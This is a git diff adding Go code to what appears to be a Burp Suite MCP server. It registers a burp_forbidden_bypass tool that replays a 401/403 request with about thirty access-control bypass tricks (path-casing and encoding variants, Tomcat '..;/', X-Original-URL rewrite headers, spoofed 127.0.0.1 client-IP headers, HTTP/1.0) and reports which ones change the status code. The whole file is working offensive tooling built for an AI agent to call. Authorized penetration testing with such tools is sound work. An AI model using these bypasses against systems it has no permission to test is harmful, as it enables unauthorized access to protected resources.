@@ -0,0 +1,240 @@
+package tools
+
+import (
+	"context"
+	"fmt"
+	"strings"
+	"unicode"
+
+	"github.com/c0tton-fluff/burp-mcp-server/internal/burp"
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+)
+
+// bypassPreviewLimit caps the body excerpt kept as evidence per variant.
+const bypassPreviewLimit = 300
+
+// bypassVariant is one 401/403 bypass trick. change describes it for the
+// report; apply edits the request.
+type bypassVariant struct {
+	name   string
+	change func(path string) string
+	apply  func(r *rawRequest, path, query string)
+}
+
+// pathVariant rewrites the request path, keeping the query.
+func pathVariant(name string, rewrite func(path string) string) bypassVariant {
+	return bypassVariant{
+		name:   name,
+		change: func(path string) string { return "path " + rewrite(path) },
+		apply: func(r *rawRequest, path, query string) {
+			r.target = joinTarget(rewrite(path), query)
+		},
+	}
+}
+
+// headerVariant adds a header, keeping the request line.
+func headerVariant(name, value string) bypassVariant {
+	return bypassVariant{
+		name:   strings.ToLower(name),
+		change: func(string) string { return name + ": " + value },
+		apply:  func(r *rawRequest, _, _ string) { r.setHeader(name, value) },
+	}
+}
+
+// rewriteVariant requests / and names the blocked path in a rewrite header,
+// which some front ends check while the application routes on the header.
+func rewriteVariant(name string) bypassVariant {
+	return bypassVariant{
+		name:   strings.ToLower(name),
+		change: func(path string) string { return "path /, " + name + ": " + path },
+		apply: func(r *rawRequest, path, query string) {
+			r.target = joinTarget("/", query)
+			r.setHeader(name, path)
+		},
+	}
+}
+
+func joinTarget(path, query string) string {
+	if query == "" {
+		return path
+	}
+	return path + "?" + query
+}
+
+// lastSegment splits path into everything up to the final segment and the
+// segment itself: /admin/panel -> /admin/, panel.
+func lastSegment(path string) (string, string) {
+	i := max(strings.LastIndex(strings.TrimSuffix(path, "/"), "/"), 0)
+	return path[:i+1], path[i+1:]
+}
+
+// bypassVariants are path normalization mismatches between the access check
+// and the router, rewrite headers, IP allow-list spoofing, and HTTP/1.0.
+var bypassVariants = []bypassVariant{
+	pathVariant("uppercase", strings.ToUpper),
+	pathVariant("capitalized-segment", func(p string) string {
+		dir, seg := lastSegment(p)
+		if seg == "" {
+			return p
+		}
+		r := []rune(seg)
+		r[0] = unicode.ToUpper(r[0])
+		return dir + string(r)
+	}),
+	pathVariant("trailing-slash", func(p string) string { return p + "/" }),
+	pathVariant("trailing-dot-segment", func(p string) string { return p + "/." }),
+	pathVariant("trailing-dot", func(p string) string { return p + "." }),
+	pathVariant("double-slash", func(p string) string { return "/" + p }),
+	pathVariant("dot-segment", func(p string) string { return "/." + p }),
+	pathVariant("encoded-dot-segment", func(p string) string { return "/%2e" + p }),
+	pathVariant("encoded-dot-dot", func(p string) string {
+		dir, seg := lastSegment(p)
+		return dir + "x/%2e%2e/" + seg
+	}),
+	pathVariant("semicolon", func(p string) string { return p + ";" }),
+	pathVariant("leading-semicolon", func(p string) string { return "/;" + p }),
+	pathVariant("tomcat-path-param", func(p string) string {
+		dir, seg := lastSegment(p)
+		return dir + "..;/" + strings.TrimPrefix(dir, "/") + seg
+	}),
+	pathVariant("encoded-last-char", func(p string) string {
+		if p == "" || strings.HasSuffix(p, "/") {
+			return p
+		}
+		return p[:len(p)-1] + fmt.Sprintf("%%%02X", p[len(p)-1])
+	}),
+	pathVariant("trailing-space", func(p string) string { return p + "%20" }),
+	pathVariant("trailing-tab", func(p string) string { return p + "%09" }),
+	pathVariant("trailing-question", func(p string) string { return p + "%3f" }),
+	pathVariant("trailing-hash", func(p string) string { return p + "%23" }),
+	pathVariant("json-extension", func(p string) string { return p + ".json" }),
+	rewriteVariant("X-Original-URL"),
+	rewriteVariant("X-Rewrite-URL"),
+	headerVariant("X-Forwarded-For", "127.0.0.1"),
+	headerVariant("X-Real-IP", "127.0.0.1"),
+	headerVariant("X-Client-IP", "127.0.0.1"),
+	headerVariant("X-Originating-IP", "127.0.0.1"),
+	headerVariant("X-Remote-IP", "127.0.0.1"),
+	headerVariant("X-Remote-Addr", "127.0.0.1"),
+	headerVariant("True-Client-IP", "127.0.0.1"),
+	headerVariant("X-Custom-IP-Authorization", "127.0.0.1"),
+	headerVariant("Forwarded", "for=127.0.0.1"),
+	{
+		name:   "http-1.0",
+		change: func(string) string { return "HTTP/1.0 request line" },
+		apply:  func(r *rawRequest, _, _ string) { r.version = "HTTP/1.0" },
+	},
+}
+
+// ForbiddenBypassInput is the input for burp_forbidden_bypass.
+type ForbiddenBypassInput struct {
+	Raw           string `json:"raw" jsonschema:"required,Raw HTTP request that gets 401 or 403"`
+	Host          string `json:"host,omitempty" jsonschema:"Target host (overrides Host header)"`
+	Port          int    `json:"port,omitempty" jsonschema:"Target port (default based on TLS)"`
+	TLS           *bool  `json:"tls,omitempty" jsonschema:"Use HTTPS (default true)"`
+	HeaderProfile string `json:"headerProfile,omitempty" jsonschema:"Header rule profile from config (default: 'default')"`
+	Instance      string `json:"instance,omitempty" jsonschema:"Named Burp instance from config (default: the --burp-url connection)"`
+}
+
+// BypassResult is a variant whose status differed from the baseline.
+type BypassResult struct {
+	Name       string `json:"name"`
+	Change     string `json:"change"`
+	StatusCode int    `json:"statusCode"`
+	Length     int    `json:"length"`
+	Evidence   string `json:"evidence,omitempty"`
+}
+
+// ForbiddenBypassOutput is the output of burp_forbidden_bypass.
+type ForbiddenBypassOutput struct {
+	BaselineStatus int            `json:"baselineStatus"`
+	BaselineLength int            `json:"baselineLength"`
+	Changed        []BypassResult `json:"changed"`
+	Tried          int            `json:"tried"`
+	Errors         []string       `json:"errors,omitempty"`
+	Summary        string         `json:"summary"`
+}
+
+func forbiddenBypassHandler(client *burp.Client) func(context.Context, *mcp.CallToolRequest, ForbiddenBypassInput) (*mcp.CallToolResult, ForbiddenBypassOutput, error) {
+	return func(ctx context.Context, _ *mcp.CallToolRequest, input ForbiddenBypassInput) (*mcp.CallToolResult, ForbiddenBypassOutput, error) {
+		ctx = burp.WithInstance(ctx, input.Instance)
+
+		rawNorm, parsed, err := prepareRequest(input.Raw, input.HeaderProfile)
+		if err != nil {
+			return nil, ForbiddenBypassOutput{}, err
+		}
+		t, err := resolveTarget(input.Host, input.Port, input.TLS, parsed.Host)
+		if err != nil {
+			return nil, ForbiddenBypassOutput{}, err
+		}
+		base, err := splitRawRequest(rawNorm)
+		if err != nil {
+			return nil, ForbiddenBypassOutput{}, err
+		}
+		path, query, _ := strings.Cut(base.target, "?")
+		if !strings.HasPrefix(path, "/") {
+			return nil, ForbiddenBypassOutput{}, fmt.Errorf("request target %q is not an origin-form path", base.target)
+		}
+
+		baseline, err := sendParsed(ctx, client, rawNorm, t, bypassPreviewLimit)
+		if err != nil {
+			return nil, ForbiddenBypassOutput{}, fmt.Errorf("baseline request failed: %w", err)
+		}
+
+		results := make([]*BypassResult, len(bypassVariants))
+		errs := make([]string, len(bypassVariants))
+		parallel(len(bypassVariants), func(i int) {
+			v := bypassVariants[i]
+			r, _ := splitRawRequest(rawNorm)
+			v.apply(r, path, query)
+			resp, err := sendParsed(ctx, client, r.String(), t, bypassPreviewLimit)
+			if err != nil {
+				errs[i] = fmt.Sprintf("%s: %v", v.name, err)
+				return
+			}
+			if resp.StatusCode != baseline.StatusCode {
+				results[i] = &BypassResult{
+					Name:       v.name,
+					Change:     v.change(path),
+					StatusCode: resp.StatusCode,
+					Length:     resp.BodySize,
+					Evidence:   resp.StatusLine + "\n\n" + resp.Body,
+				}
+			}
+		})
+
+		out := ForbiddenBypassOutput{
+			BaselineStatus: baseline.StatusCode,
+			BaselineLength: baseline.BodySize,
+			Changed:        []BypassResult{},
+			Tried:          len(bypassVariants),
+		}
+		bypassed := 0
+		for i := range bypassVariants {
+			if results[i] != nil {
+				out.Changed = append(out.Changed, *results[i])
+				if results[i].StatusCode < 400 {
+					bypassed++
+				}
+			}
+			if errs[i] != "" {
+				out.Errors = append(out.Errors, errs[i])
+			}
+		}
+		out.Summary = fmt.Sprintf("%d variants, %d changed the status from %d, %d to a non-error status", out.Tried, len(out.Changed), baseline.StatusCode, bypassed)
+		if baseline.StatusCode != 401 && baseline.StatusCode != 403 {
+			out.Summary += fmt.Sprintf("; note the baseline is %d, not 401/403", baseline.StatusCode)
+		}
+		return nil, out, nil
+	}
+}
+
+// RegisterForbiddenBypassTool registers the burp_forbidden_bypass tool.
+func RegisterForbiddenBypassTool(server *mcp.Server, client *burp.Client) {
+	addTool(server, &mcp.Tool{
+		Name: "burp_forbidden_bypass",
+		Description: `Replay a 401/403 request with known bypass tricks: path casing, trailing slash/dot, //, /./, %2e, ..;/, encoded characters, X-Original-URL/X-Rewrite-URL, ` +
+			`127.0.0.1 in X-Forwarded-For and other client IP headers, and HTTP/1.0. Reports the variants that changed the status code. ` +
+			`Returns {baselineStatus, baselineLength, changed: [{name, change, statusCode, length, evidence}], tried, summary}.`,
+	}, forbiddenBypassHandler(client))
+}